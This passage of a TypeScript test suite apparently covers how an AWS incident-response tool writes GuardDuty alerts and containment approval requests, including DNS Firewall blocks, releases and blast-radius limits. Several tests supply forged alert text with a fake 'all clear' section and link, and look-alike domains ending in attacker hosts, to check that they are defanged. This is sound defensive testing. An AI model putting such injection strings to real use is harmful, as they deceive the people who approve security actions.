    const structured = parse({
      kind: 'invalid-event',
      mode: 'enforce',
      rawEvent,
      reason: {
        message: 'detail.type: expected a GuardDuty finding type',
        issues: [
          { path: 'detail.type', expected: 'a GuardDuty finding type' },
          { path: 'detail.severity', expected: 'a number from 0 to 10' },
        ],
      },
    });
    const built = buildAlertMessage(structured, { now: NOW });
    expect(built.subject).toBe('[GAME DAY][INVALID EVENT] Unparseable GuardDuty Finding from firebreak.gameday: detail.type: expe...');
    expect(built.subject).not.toContain('{');
    const why = section(built.message, 'WHY IT WAS REFUSED');
    expect(why).toContain('detail.type: expected a GuardDuty finding type');
    expect(why).toContain('- detail.severity: expected a number from 0 to 10');
    expect(why).not.toContain('"issues"');
  });

  it('shows an event that is not even JSON as it came, its markup made inert (issue 8: untrusted text)', () => {
    const { message: text } = buildAlertMessage(parse({ kind: 'invalid-event', mode: 'enforce', rawEvent: '<xml>nope</xml>', reason: 'not JSON' }), { now: NOW });
    expect(section(text, 'THE EVENT')).toContain('‹xml›nope‹/xml›');
  });
});

function approval(): AlertInput {
  return parse({
    kind: 'approval-request',
    incident: ec2Incident(),
    mode: 'enforce',
    playbook: 'compromised-ec2',
    options: {},
    execution: EXECUTION,
    results: { evidence: SNAPSHOTTED },
    approval: { taskToken: 'AQCEAAAAKgAAAAMAAAAAAAAAAd+token/with+chars=', waitingSteps: ['contain'], timeoutSeconds: 3600 },
  });
}

// review-dnshub (row 10h): approving a containment also runs its block-dns-domain step, which puts the
// finding's domain into the account's and Region's DNS Firewall list: every associated VPC stops
// resolving it, not only the contained instance. The request said nothing of it, so an approver checking
// the instance approved a block of whatever the event named (an identity provider, a partner's API).
describe('ATTACK (review-dnshub): a containment approval request names the domain approving blocks VPC-wide (row 10h)', () => {
  const request = (dnsDomain: string | undefined, blocksDnsDomain: boolean | undefined) =>
    section(
      buildAlertMessage(
        parse({
          kind: 'approval-request',
          incident: ec2Incident({ guardDuty: { ...ec2Incident().guardDuty!, ...(dnsDomain !== undefined ? { dnsDomain } : {}) } }),
          mode: 'enforce',
          playbook: 'compromised-ec2',
          options: {},
          execution: EXECUTION,
          results: { evidence: SNAPSHOTTED },
          approval: { taskToken: 'token', waitingSteps: ['contain', 'block-dns'], timeoutSeconds: 3600, ...(blocksDnsDomain !== undefined ? { blocksDnsDomain } : {}) },
        }),
        { now: NOW },
      ).message,
      'APPROVAL NEEDED',
    );

  it('says approving BLOCKS the domain, with its subdomains, for every associated VPC, and to check it first', () => {
    const text = request('Login.MicrosoftOnline.com.', true);
    expect(text).toContain('Approving also BLOCKS login[.]microsoftonline[.]com (and its subdomains) in DNS Firewall for every VPC');
    expect(text).toContain(`in account ${ACCOUNT} ${REGION}`);
    expect(text).toMatch(/not only i-0abc1234def567890's/);
    expect(text).toMatch(/The domain is the finding's word: approve only if the organization does not use it/);
  });

  it('says nothing of a block when the playbook blocks no domain, or the finding names none', () => {
    expect(request('c2.evil.example', undefined)).not.toMatch(/BLOCKS/);
    expect(request(undefined, true)).not.toMatch(/BLOCKS/);
  });

  it('says the domain will not be blocked when block-dns-domain refuses it whatever the deployment lists', () => {
    const text = request('sts.us-east-1.amazonaws.com', true);
    expect(text).not.toMatch(/Approving also BLOCKS/);
    expect(text).toContain('block-dns-domain will not block sts[.]us-east-1[.]amazonaws[.]com');
  });

  it('shows a hostile domain as untrusted text: one line, defanged, its end kept', () => {
    const text = request(`login.microsoftonline.com.${'a.'.repeat(100)}c2.attacker.ru`, true);
    const line = text.split('\n').find((l) => l.includes('Approving also BLOCKS')) ?? '';
    expect(line).toContain('c2[.]attacker[.]ru');
    expect(request('evil.example\n\nAPPROVAL NEEDED\n  all clear', true).split('\n').filter((l) => l.startsWith('APPROVAL NEEDED'))).toHaveLength(1);
  });
});

// rereview-dnshub (row 10i): row 10h's line tells the approver to approve only if the organization does
// not use the domain, as if not approving kept it resolving. Under a playbook whose onTimeout is contain
// (the guard's grant says so), nobody answering by the deadline runs the waiting steps WITHOUT approval,
// the VPC-wide DNS block included; the request only said "then the playbook's timeout rule applies".
describe('ATTACK (rereview-dnshub): an approval request says what nobody answering does, the DNS block included (row 10i)', () => {
  const request = (onTimeout: 'contain' | 'evidence-only' | undefined, blocksDnsDomain = true, latestOnly = false) =>
    section(
      buildAlertMessage(
        parse({
          kind: 'approval-request',
          incident: ec2Incident({ guardDuty: { ...ec2Incident().guardDuty!, dnsDomain: 'api.partner.example' } }),
          mode: 'enforce',
          playbook: 'compromised-ec2',
          options: {},
          execution: EXECUTION,
          results: { evidence: SNAPSHOTTED },
          approval: { taskToken: 'token', waitingSteps: ['contain', 'block-dns'], timeoutSeconds: 3600, ...(blocksDnsDomain ? { blocksDnsDomain } : {}) },
        }),
        { now: NOW, approvalDeadline: '2026-11-20T11:00:00.000Z', ...(latestOnly ? { approvalDeadlineLatestOnly: true } : {}), ...(onTimeout !== undefined ? { approvalOnTimeout: onTimeout } : {}) },
      ).message,
      'APPROVAL NEEDED',
    );

  it('says that, unanswered, the steps run WITHOUT approval and the domain is blocked, and to reject to stop them (onTimeout contain)', () => {
    const text = request('contain');
    expect(text).toContain('answers are taken until 2026-11-20T11:00:00.000Z; if nobody answers by then, contain, block-dns run WITHOUT approval (this playbook\'s onTimeout is contain), the DNS block above included: reject to stop them.');
    expect(text).not.toContain("the playbook's timeout rule applies");
  });

  it('says that, unanswered, the steps do not run (onTimeout evidence-only), and names no DNS block where none waits', () => {
    expect(request('evidence-only')).toContain('if nobody answers by then, contain, block-dns do not run (onTimeout: evidence-only).');
    expect(request('contain', false)).toContain('run WITHOUT approval (this playbook\'s onTimeout is contain): reject to stop them.');
  });

  it('keeps the general words when the guard\'s grant could not be read (its onTimeout unknown)', () => {
    expect(request(undefined, true, true)).toContain("then the playbook's timeout rule applies");
  });
});

describe('buildAlertMessage: approval-request', () => {
  const { message } = buildAlertMessage(approval(), { now: NOW });

  it('says what is waiting and until when', () => {
    const section_ = section(message, 'APPROVAL NEEDED');
    expect(section_).toContain('Playbook compromised-ec2 is waiting for a decision before: contain.');
    expect(section_).toContain('until 2026-11-20T11:03:00.000Z');
  });

  it('names the execution and gives the exact firebreak approve / reject commands, by execution', () => {
    const lines = section(message, 'APPROVAL NEEDED').split('\n').map((l) => l.trim());
    expect(lines).toContain(`Execution: ${EXECUTION.executionArn}`);
    expect(lines).toContain(`npx firebreak approve --execution '${EXECUTION.executionArn}'`);
    expect(lines).toContain(`npx firebreak reject --execution '${EXECUTION.executionArn}' --reason "..."`);
    expect(message).not.toContain('"approved":false');
  });

  it('never carries the task token, nor a command that would need it (issue 8: tokens do not travel)', () => {
    const { message: text, subject } = buildAlertMessage(approval(), { now: NOW });
    for (const shown of [text, subject]) {
      expect(shown).not.toContain('AQCEAAAAKgAAAAMAAAAAAAAAAd');
      expect(shown).not.toMatch(/--token|task-token|send-task-success|send-task-failure/);
    }
  });
});

describe('buildAlertMessage: the approval request of a release names the incidents that hold the instance', () => {
  const KEY = ec2Incident().key;
  const LATER = 'gd-2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b';
  /** The release-instance playbook's request, with the guard's read of the instance's claims. */
  function releaseApproval(releaseClaims: Record<string, unknown> | undefined, releaseDnsBlocks?: Record<string, unknown>): AlertInput {
    return parse({
      kind: 'approval-request',
      incident: ec2Incident(),
      mode: 'enforce',
      playbook: 'release-instance',
      options: {},
      execution: { ...EXECUTION, playbook: 'release-instance' },
      results: {
        Guard: {
          responder: 'containment-guard',
          incidentKey: KEY,
          mode: 'enforce',
          status: 'needs-approval',
          idempotentReplay: false,
          actions: [],
          reasons: ['The release-instance playbook requires a person to approve before it changes resources.'],
          protected: false,
          instanceId: INSTANCE_ID,
          blastRadius: { evaluated: false, granted: false, slotTaken: false, used: null, limit: 5, windowSeconds: 3600 },
          ...(releaseClaims !== undefined ? { releaseClaims } : {}),
          ...(releaseDnsBlocks !== undefined ? { releaseDnsBlocks } : {}),
        },
      },
      approval: { taskToken: 'token', waitingSteps: ['release', 'unblock-dns'], timeoutSeconds: 3600 },
    });
  }
  const approvalSection = (claims: Record<string, unknown> | undefined) => section(buildAlertMessage(releaseApproval(claims), { now: NOW }).message, 'APPROVAL NEEDED');

  it('says the release only takes back its claim, and the instance stays quarantined, naming who still holds it', () => {
    const text = approvalSection({ record: 'held', claims: [KEY, LATER], claimCount: 2 });
    expect(text).toContain(`Approving takes back only incident ${KEY}'s claim: ${INSTANCE_ID} STAYS QUARANTINED, incident ${LATER} still holds it`);
    expect(text).toContain('nothing is restored until the last of them is released');
    // Review s19: a stale approval does not take back a claim its own incident wrote again after it.
    expect(text).toContain(`contains ${INSTANCE_ID} again before the release acts (a new execution, as when GuardDuty updates the finding), it keeps its claim too`);
  });

  it('says approving restores the instance when this incident holds the last claim', () => {
    expect(approvalSection({ record: 'held', claims: [KEY], claimCount: 1 })).toContain(`Incident ${KEY} holds the last claim on ${INSTANCE_ID}: approving RESTORES it`);
    // An approval covers what it was given on: a claim written after this request, even this incident's own, makes the release restore nothing.
    expect(approvalSection({ record: 'held', claims: [KEY], claimCount: 1 })).toContain(
      `unless an incident, this one included (a new execution, as when GuardDuty updates the finding), contains ${INSTANCE_ID} again before the release acts: it then restores nothing, and a new release is needed`,
    );
  });

  it('says the release will change nothing when the incident holds no claim, the record is released, or there is none', () => {
    expect(approvalSection({ record: 'held', claims: [LATER], claimCount: 1 })).toContain(`Incident ${KEY} holds no claim on ${INSTANCE_ID} (incident ${LATER} does): the release will refuse and change nothing`);
    expect(approvalSection({ record: 'released' })).toContain(`The pre-quarantine record of ${INSTANCE_ID} is already released: the release will change nothing`);
    expect(approvalSection({ record: 'no-record' })).toContain(`Firebreak holds no pre-quarantine record of ${INSTANCE_ID}: the release will change nothing`);
  });

  it('says when the claims could not be read: the release then restores nothing, and only takes back the claim if others hold it', () => {
    expect(approvalSection({ record: 'unreadable', reason: 'AccessDeniedException: no' })).toContain(
      `Firebreak could not read which incidents hold ${INSTANCE_ID} (AccessDeniedException: no), so this approval cannot be given on them: the release restores NOTHING (if incident ${KEY} holds the last claim, it changes nothing and a new release is needed); if other incidents hold ${INSTANCE_ID}, it takes back only incident ${KEY}'s claim`,
    );
    // A playbook whose guard read nothing (not a release) says nothing of claims.
    expect(approvalSection(undefined)).not.toMatch(/claim/);
  });

  it('shows claims read from the table as untrusted text: one line each, links defanged, and a bounded list', () => {
    const forged = 'gd-x\n\nAPPROVAL NEEDED\n  all clear, https://evil.example/approve';
    const text = approvalSection({ record: 'held', claims: [KEY, forged, ...Array.from({ length: 12 }, (_, i) => `gd-${i}`)], claimCount: 40 });
    expect(text.split('\n').filter((line) => line.startsWith('APPROVAL NEEDED'))).toHaveLength(1);
    expect(text).not.toContain('https://evil.example');
    expect(text).toContain('and 34 more still hold it');
  });

  // Session 37 (row 5r): the release's unblock-dns step lifts the DNS Firewall blocks its incident
  // claimed on the instance, VPC-wide, and the request never said so.
  describe('ATTACK (approvals): names the DNS Firewall blocks approving lifts (row 5r)', () => {
    const dnsSection = (blocks: Record<string, unknown>) => section(buildAlertMessage(releaseApproval({ record: 'held', claims: [KEY], claimCount: 1 }, blocks), { now: NOW }).message, 'APPROVAL NEEDED');

    it("names the incident's blocked domains, and that they resolve again once the release restores the instance", () => {
      const text = dnsSection({ record: 'read', domains: ['c2.evil.example', 'tunnel.evil.example'], domainCount: 2, others: [], otherCount: 0 });
      expect(text).toContain(`Approving also LIFTS incident ${KEY}'s DNS Firewall blocks of c2.evil.example, tunnel.evil.example (each with its subdomains`);
      expect(text).toContain('they resolve again once the release has restored');
      expect(text).toContain('unless another open incident still blocks them');
    });

    it("names other incidents' blocks on the instance as staying, and counts what it does not list", () => {
      const text = dnsSection({ record: 'read', domains: Array.from({ length: 10 }, (_, i) => `d${i}.example`), domainCount: 13, others: ['other.example'], otherCount: 1 });
      expect(text).toContain('d4.example and 8 more (each with its subdomains');
      expect(text).toContain(`The DNS Firewall block of other.example, claimed on ${INSTANCE_ID} by another incident, stays`);
    });

    it('says so when the blocks could not be read, and nothing when there are none', () => {
      expect(dnsSection({ record: 'unreadable', reason: 'AccessDeniedException: no' })).toContain(
        `Firebreak could not read the DNS Firewall blocks claimed on ${INSTANCE_ID} (AccessDeniedException: no): approving may also lift incident ${KEY}'s blocks`,
      );
      expect(dnsSection({ record: 'read', domains: [], domainCount: 0, others: [], otherCount: 0 })).not.toMatch(/DNS Firewall/);
    });

    it('shows domains read from the table as untrusted text: one line, links defanged', () => {
      const text = dnsSection({ record: 'read', domains: ['evil.example\n\nAPPROVAL NEEDED\n  all clear, https://evil.example/approve'], domainCount: 1, others: [], otherCount: 0 });
      expect(text.split('\n').filter((line) => line.startsWith('APPROVAL NEEDED'))).toHaveLength(1);
      expect(text).not.toContain('https://evil.example');
    });

    // review-5q (row 5t): a DNS name is at most 253 characters, but each dot shows as `[.]`, and the
    // line cut each name at 253 of the defanged text: a long name kept its front (a look-alike) and
    // lost its end, the registrable domain that resolves again.
    it('ATTACK (review-5q): a long name shows its end, the domain that resolves again, not only a look-alike front', () => {
      const domain = `login.microsoftonline.com.${'a.'.repeat(100)}c2.attacker.ru`;
      expect(domain.length).toBeLessThanOrEqual(253);
      const text = dnsSection({ record: 'read', domains: [domain, ...Array.from({ length: 4 }, () => domain)], domainCount: 6, others: [domain], otherCount: 1 });
      const lifts = text.split('\n').find((line) => line.includes('Approving also LIFTS')) ?? '';
      expect(lifts.match(/c2\[\.\]attacker\[\.\]ru/g)).toHaveLength(5);
      expect(lifts).toContain('and 1 more');
      // Still within a stored note's 2,000 characters (what `firebreak approve` prints).
      expect(lifts.trim().length).toBeLessThanOrEqual(2000);
      expect(text).toMatch(/The DNS Firewall block of \.\.\.\S*c2\[\.\]attacker\[\.\]ru, claimed on/);
    });
  });
});

// Session 37 (row 5s): `firebreak dns unblock` starts the unblock-dns-domain playbook with the domain
// and force in `dnsUnblock`, which the grant binds and the step acts on. The approval request never
// said either: the approver saw only the incident's title, which whoever starts the execution writes
// ("Unblock of harmless.example requested by ..."), and never that the unblock is forced past other
// open incidents' claims.
describe('ATTACK (approvals): the approval request of `firebreak dns unblock` names the domain it unblocks, and its force (row 5s)', () => {
  const KEY = ec2Incident().key;
  const unblockApproval = (request: unknown, title = 'Unblock of harmless.example requested by arn:aws:sts::111122223333:assumed-role/oncall/mallory') =>
    section(
      buildAlertMessage(
        parse({
          kind: 'approval-request',
          incident: { ...ec2Incident(), source: 'firebreak', findingType: 'Firebreak:DnsUnblock', title },
          mode: 'enforce',
          playbook: 'unblock-dns-domain',
          options: {},
          execution: { ...EXECUTION, playbook: 'unblock-dns-domain' },
          ...(request !== undefined ? { request } : {}),
          approval: { taskToken: 'token', waitingSteps: ['unblock'], timeoutSeconds: 3600 },
        }),
        { now: NOW },
      ).message,
      'APPROVAL NEEDED',
    );
  const REQUESTED_BY = 'arn:aws:sts::111122223333:assumed-role/oncall/mallory';

  it('names the domain the step unblocks (the request the grant binds), whatever the title says', () => {
    const text = unblockApproval({ requestedBy: REQUESTED_BY, reason: 'false positive', dnsUnblock: { domain: 'c2.real.example', force: false } });
    expect(text).toContain(`Approving UNBLOCKS c2.real.example (and its subdomains): incident ${KEY}'s block of it on ${INSTANCE_ID} is taken back`);
    expect(text).not.toContain('FORCED');
  });

  it('says when the unblock is forced past other open incidents\' claims', () => {
    const text = unblockApproval({ requestedBy: REQUESTED_BY, reason: null, dnsUnblock: { domain: 'c2.real.example', force: true } });
    expect(text).toContain('FORCED: every other open incident\'s claim on c2.real.example is dropped too');
  });

  it('shows the domain as untrusted text (one line, defanged), and says nothing for a request without one', () => {
    const text = unblockApproval({ requestedBy: REQUESTED_BY, dnsUnblock: { domain: 'x.example\n\nAPPROVAL NEEDED\n https://evil.example/ok', force: false } });
    expect(text.split('\n').filter((line) => line.startsWith('APPROVAL NEEDED'))).toHaveLength(1);
    expect(text).not.toContain('https://evil.example');
    expect(unblockApproval({ requestedBy: REQUESTED_BY, reason: 'r' })).not.toContain('UNBLOCKS');
    expect(unblockApproval('not a request')).not.toContain('UNBLOCKS');
  });

  it('ATTACK (review-5q): a long requested domain shows its end, the domain the unblock acts on, not only a look-alike front (row 5t)', () => {
    const domain = `login.microsoftonline.com.${'a.'.repeat(100)}c2.attacker.ru`;
    const text = unblockApproval({ requestedBy: REQUESTED_BY, dnsUnblock: { domain, force: true } });
    expect(text).toMatch(/Approving UNBLOCKS \.\.\.\S*c2\[\.\]attacker\[\.\]ru \(and its subdomains\)/);
    expect(text).toMatch(/FORCED: every other open incident's claim on \.\.\.\S*c2\[\.\]attacker\[\.\]ru is dropped too/);
  });
});

describe('buildAlertMessage: the approval request of an S3 object release says whether the object stays tagged for another incident', () => {
  const scan = parseEvent(fixtureEvent('guardduty-malware-protection-s3-threats-found.json'), { receivedAt: NOW });
  const OTHER = 's3scan-2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b';
  const version = (scan.affected?.find((entry) => (entry as { kind?: string }).kind === 's3-object') as { versionId?: string } | undefined)?.versionId;
  const bucket = (scan.affected?.find((entry) => (entry as { kind?: string }).kind === 's3-object') as { bucketName?: string } | undefined)?.bucketName;
  /** The release-s3-object playbook's request, with the guard's read of the version's claims. */
  const approvalSection = (releaseClaims: Record<string, unknown> | undefined) =>
    section(
      buildAlertMessage(
        parse({
          kind: 'approval-request',
          incident: scan,
          mode: 'enforce',
          playbook: 'release-s3-object',
          options: {},
          execution: { ...EXECUTION, playbook: 'release-s3-object' },
          results: {
            Guard: {
              responder: 'containment-guard',
              incidentKey: scan.key,
              mode: 'enforce',
              status: 'needs-approval',
              idempotentReplay: false,
              actions: [],
              reasons: [],
              protected: false,
              blastRadius: { evaluated: false, granted: false, slotTaken: false, used: null, limit: 5, windowSeconds: 3600 },
              ...(releaseClaims !== undefined ? { releaseClaims } : {}),
            },
          },
          approval: { taskToken: 'token', waitingSteps: ['release'], timeoutSeconds: 3600 },
        }),
        { now: NOW },
      ).message,
      'APPROVAL NEEDED',
    );
  const object = `the scanned object (version ${version!}) in bucket ${bucket!}`;
  it('reads the fixture\'s object', () => expect([version, bucket]).toEqual([expect.any(String), expect.any(String)]));

  it('says the object stays tagged infected while another incident holds it, naming that incident', () => {
    const text = approvalSection({ of: 's3-object', record: 'held', claims: [scan.key, OTHER].sort(), claimCount: 2 });
    expect(text).toContain(`Approving takes back only incident ${scan.key}'s claim: ${object} STAYS TAGGED INFECTED, incident ${OTHER} still holds it`);
    expect(text).toContain('the infected tags come off only when the last of them is released');
    // Never the key: it is the uploader's text, quoted once in the MALWARE SCAN section.
    expect(text).not.toContain('invoice');
  });

  it("says approving takes the infected tags off when this incident holds the last claim, and changes none when it holds none", () => {
    expect(approvalSection({ of: 's3-object', record: 'held', claims: [scan.key], claimCount: 1 })).toContain(
      `Incident ${scan.key} holds the last claim on ${object}: approving takes Firebreak's infected tags off (the owner's tags stay; the quarantine copy stays as evidence)`,
    );
    expect(approvalSection({ of: 's3-object', record: 'held', claims: [OTHER], claimCount: 1 })).toContain(
      `Incident ${scan.key} holds no claim on ${object} (incident ${OTHER} does): it STAYS TAGGED INFECTED; approving changes none of its tags`,
    );
  });

  it('says what it knows when no incident holds it, every one took its claim back, or the claims could not be read', () => {
    expect(approvalSection({ of: 's3-object', record: 'no-record' })).toContain(`No incident holds a claim on ${object}`);
    expect(approvalSection({ of: 's3-object', record: 'released' })).toContain(`Every incident that held ${object} took its claim back`);
    expect(approvalSection({ of: 's3-object', record: 'unreadable', reason: 'AccessDeniedException: no' })).toContain(
      `Firebreak could not read which incidents hold ${object} (AccessDeniedException: no): the release reads them itself`,
    );
    // Never the instance's words.
    expect(approvalSection({ of: 's3-object', record: 'held', claims: [scan.key, OTHER], claimCount: 2 })).not.toMatch(/QUARANTINED|pre-quarantine|RESTORES/);
  });
});

// The guarded variants of a compiled playbook (lib/playbooks/compile.ts) hand the notify step the
// guard's result in `results.Guard`, its reasons in `reasons`, and the path taken in `reason`.
const PROTECTED_REASON = `Instance ${INSTANCE_ID} is protected: it is in the deploy-time list of protected instances (FIREBREAK_PROTECTED_INSTANCE_IDS), so Firebreak collects evidence and alerts instead of containing it.`;
const BLAST_RADIUS_REASON = `Blast radius reached: 5 of 5 automatic containments already made in account ${ACCOUNT} within the last 3600 s (1 h); a person must approve any further containment.`;
const ISOLATION_ADVICE =
  'The instance is isolated and its volumes are snapshotted; do not terminate it. Investigate from the snapshots, rotate any credentials it held. Release it with npx firebreak release.';

function guardResult(overrides: Record<string, unknown> = {}) {
  return {
    responder: 'containment-guard',
    incidentKey: ec2Incident().key,
    mode: 'enforce',
    status: 'evidence-only',
    idempotentReplay: false,
    actions: [action('firebreak:containment-guard', INSTANCE_ID, 'observed', `evidence-only: ${PROTECTED_REASON}`)],
    reasons: [PROTECTED_REASON],
    protected: true,
    protectedBy: 'instance-id',
    instanceId: INSTANCE_ID,
    blastRadius: { evaluated: false, granted: false, slotTaken: false, used: null, limit: 5, windowSeconds: 3600 },
    ...overrides,
  };
}

const BLAST_RADIUS_GUARD = guardResult({
  status: 'needs-approval',
  reasons: [BLAST_RADIUS_REASON],
  protected: false,
  protectedBy: undefined,
  actions: [action('firebreak:blast-radius', ACCOUNT, 'skipped', BLAST_RADIUS_REASON)],
  blastRadius: { evaluated: true, granted: false, slotTaken: false, used: 5, limit: 5, windowSeconds: 3600, activeIncidents: ['gd-1'] },
});

/** A report alert from a guarded variant: `reason.outcome` names the path, the guard's reasons come along. */
function guardedReport(outcome: string, summary: string, extra: Record<string, unknown> = {}, guard: Record<string, unknown> = guardResult()): AlertInput {
  return report({
    options: { advice: ISOLATION_ADVICE },
    results: { Guard: guard, evidence: SNAPSHOTTED },
    reasons: guard.reasons,
    reason: { outcome, summary, ...extra },
  });
}

const EVIDENCE_ONLY_SUMMARY = 'The containment guard answered evidence-only: contain did not run, the other steps did. The reasons say why.';
const REJECTED_SUMMARY =
  'Not approved: a person rejected the request (Firebreak.ApprovalRejected), or answered without "approved": true. contain did not run; the evidence was kept. The approval record says who and why.';
const TIMED_OUT_SUMMARY =
  'Nobody answered the approval request within 900 s, so contain did not run (onTimeout: evidence-only); the evidence was kept. Decide now whether to contain by hand.';
const APPROVER = 'arn:aws:sts::111122223333:assumed-role/OnCall/ana';

describe('buildAlertMessage: containment decision of a guarded playbook', () => {
  describe('evidence-only on a protected instance', () => {
    const { subject, message } = buildAlertMessage(guardedReport('evidence-only', EVIDENCE_ONLY_SUMMARY), { now: NOW });

    it('marks the subject NOT CONTAINED: protected, within the SNS limit', () => {
      expect(subject.startsWith('[NOT CONTAINED: protected] High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890')).toBe(true);
      expect(subject.length).toBeLessThanOrEqual(100);
    });

    it('says near the top that the instance is protected and was not isolated, with the guard reason as a line', () => {
      const decision = section(message, 'CONTAINMENT DECISION');
      expect(message.indexOf('CONTAINMENT DECISION')).toBeLessThan(message.indexOf('WHAT WAS FOUND'));
      expect(decision).toContain(`Instance ${INSTANCE_ID} is PROTECTED (it is in the deployment's list of protected instances)`);
      expect(decision).toContain('It was NOT isolated');
      expect(decision).toContain(`  Path: ${EVIDENCE_ONLY_SUMMARY}`);
      expect(decision.split('\n')).toContain(`  - ${PROTECTED_REASON}`);
    });

    it('says in "did not do" that the instance was not isolated and why', () => {
      expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(
        `- Instance ${INSTANCE_ID} was NOT isolated: it is protected, and Firebreak never contains a protected instance automatically.`,
      );
    });

    it("drops the playbook's sentence claiming isolation and keeps the rest as advice for containing by hand", () => {
      const next = section(message, 'WHAT TO DO NEXT');
      expect(next).toContain('1. Instance i-0abc1234def567890 is protected, so Firebreak left it running and connected');
      expect(next).toContain('2. If you contain it by hand: Investigate from the snapshots, rotate any credentials it held. Release it with npx firebreak release.');
      expect(next).not.toMatch(/is isolated/);
      expect(next).not.toContain('decide now whether to contain it by hand');
    });
  });

  it('reads the decision from the guard result in results alone (no reasons or reason passed)', () => {
    const input = report({ results: { Guard: guardResult({ protectedBy: 'instance-tag' }), evidence: SNAPSHOTTED } });
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('[NOT CONTAINED: protected] ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain('is PROTECTED (it carries the protected tag)');
  });

  it('says evidence only, without "protected", when the guard held containment back for another reason', () => {
    const unverifiable = 'Instance i-0abc1234def567890 could not be described (InvalidInstanceID.NotFound): treated as protected.';
    const guard = guardResult({ protected: false, protectedBy: undefined, reasons: [unverifiable] });
    const { subject, message } = buildAlertMessage(guardedReport('evidence-only', EVIDENCE_ONLY_SUMMARY, {}, guard), { now: NOW });
    expect(subject.startsWith('[NOT CONTAINED: evidence only] ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain('The containment guard answered evidence-only: Instance i-0abc1234def567890 was NOT isolated');
    expect(section(message, 'CONTAINMENT DECISION')).toContain(`  - ${unverifiable}`);
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('was NOT isolated: the containment guard answered evidence-only');
  });

  it('asks for approval because the blast-radius limit is reached, and says nothing is isolated yet', () => {
    const input = parse({
      kind: 'approval-request',
      incident: ec2Incident(),
      mode: 'enforce',
      playbook: 'compromised-ec2',
      options: {},
      execution: EXECUTION,
      results: { Guard: BLAST_RADIUS_GUARD, evidence: SNAPSHOTTED },
      reasons: BLAST_RADIUS_GUARD.reasons,
      approval: { taskToken: 'token', waitingSteps: ['contain'], timeoutSeconds: 900 },
    });
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('[APPROVAL NEEDED: blast radius] High: ')).toBe(true);
    const decision = section(message, 'CONTAINMENT DECISION');
    expect(decision).toContain('Blast-radius limit reached (5 of 5 automatic containments in this account within the last 3600 s)');
    expect(decision).toContain(`  - ${BLAST_RADIUS_REASON}`);
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(
      `Instance ${INSTANCE_ID} was NOT isolated: the blast-radius limit is reached, so containment waits for a person's approval.`,
    );
    expect(section(message, 'WHAT TO DO NEXT')).not.toContain('contain it by hand');
  });

  it('asks for approval without a subject marker when the playbook itself requires approval', () => {
    const guard = guardResult({
      status: 'needs-approval',
      protected: false,
      protectedBy: undefined,
      reasons: ['The playbook requires a person to approve before it changes resources.'],
      blastRadius: { evaluated: true, granted: true, slotTaken: false, used: 1, limit: 5, windowSeconds: 3600 },
    });
    const input = { ...approval(), results: { Guard: guard }, reasons: guard.reasons };
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject.startsWith('[APPROVAL NEEDED] High: ')).toBe(true);
    expect(section(message, 'CONTAINMENT DECISION')).toContain('This playbook requires a person to approve: containment waits');
  });

  describe('an event that came through the oversized-event intake (row 8c)', () => {
    const INTAKE_REASON =
      'The event (409600 bytes) reached Firebreak through the oversized-event intake, which cannot authenticate its sender, and it was not confirmed with GuardDuty\'s own copy of the finding (GetFindings; the intake\'s log says why): anyone allowed to invoke that function directly can send a forged event. A person must approve before anything changes: check the finding in the GuardDuty console before approving.';
    const INTAKE_GUARD = guardResult({
      status: 'needs-approval',
      protected: false,
      protectedBy: undefined,
      intake: 'oversized-event',
      reasons: [INTAKE_REASON],
      blastRadius: { evaluated: true, granted: true, slotTaken: false, used: 1, limit: 5, windowSeconds: 3600 },
    });

    it('asks for approval saying why (the intake cannot authenticate its sender) and what to check first', () => {
      const input = { ...approval(), results: { Guard: INTAKE_GUARD, evidence: SNAPSHOTTED }, reasons: INTAKE_GUARD.reasons };
      const { subject, message } = buildAlertMessage(input, { now: NOW });
      expect(subject.startsWith('[APPROVAL NEEDED: oversized event] High: ')).toBe(true);
      const decision = section(message, 'CONTAINMENT DECISION');
      expect(decision).toContain(
        `The event reached Firebreak through the oversized-event intake, which cannot authenticate its sender, and was not confirmed with GuardDuty's own copy of the finding (GetFindings): containment waits for a person's decision. Instance ${INSTANCE_ID} has NOT been isolated.`,
      );
      expect(decision).toContain(`  - ${INTAKE_REASON}`);
      expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain(
        `Instance ${INSTANCE_ID} was NOT isolated: the event came through the oversized-event intake, which cannot authenticate its sender, and was not confirmed with GuardDuty, so containment waits for a person's approval.`,
      );
      expect(section(message, 'WHAT TO DO NEXT')).toContain(
        '1. Before approving, check the finding in the GuardDuty console (link below): the oversized-event intake takes whatever its callers send, and GuardDuty did not confirm this event, so it may be forged. Approve only if GuardDuty shows the same finding on the same resource.',
      );
    });

    it('never says a playbook whose onTimeout is contain contained it without an answer: its steps are refused', () => {
      const summary = "Nobody answered the approval request within 900 s, and this playbook's onTimeout is contain: contain ran WITHOUT approval.";
      const { subject, message } = buildAlertMessage(guardedReport('timed-out-contained', summary, { approval: { Error: 'States.Timeout', Cause: '' } }, INTAKE_GUARD), { now: NOW });
      expect(subject.startsWith('[NOT CONTAINED: no answer] High: ')).toBe(true);
      expect(section(message, 'CONTAINMENT DECISION')).toContain(
        `Nobody answered the approval request within 900 s. This playbook's onTimeout is contain, but an event from the oversized-event intake that GuardDuty did not confirm is never contained without a person's approval: the steps that change resources were refused. Instance ${INSTANCE_ID} was NOT isolated.`,
      );
      // The compiler's sentence on that path says the steps ran without approval: not shown, it would be false.
      expect(section(message, 'CONTAINMENT DECISION')).not.toContain('WITHOUT approval');
    });
  });

  describe("an approval request for an alarm's containment (row 10d)", () => {
    // The event of an alarm put in ALARM by cloudwatch:SetAlarmState, with a reason copied from a
    // real evaluation: the alarm's history shows exactly that reason (DescribeAlarmHistory's
    // newState.stateReason is the caller's StateReason), so it proves nothing to the approver.
